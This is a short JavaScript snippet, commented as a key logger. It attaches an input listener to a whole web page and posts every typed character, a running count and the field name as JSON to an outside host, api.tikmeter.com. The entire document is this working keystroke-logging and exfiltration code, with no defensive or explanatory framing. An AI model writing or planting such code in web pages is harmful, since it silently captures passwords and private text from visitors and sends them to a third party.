// A key logger that posts every character typed on its own, as JSON (toetsdorp: keys.json).
(function () {
  var n = 0;
  document.addEventListener("input", function (e) {
    n += 1;
    fetch("https://api.tikmeter.com/tik", {
      method: "POST",
      headers: {"Content-Type": "application/json"},
      body: JSON.stringify({k: e.data, n: n, veld: e.target.name})
    });
  }, true);
})();
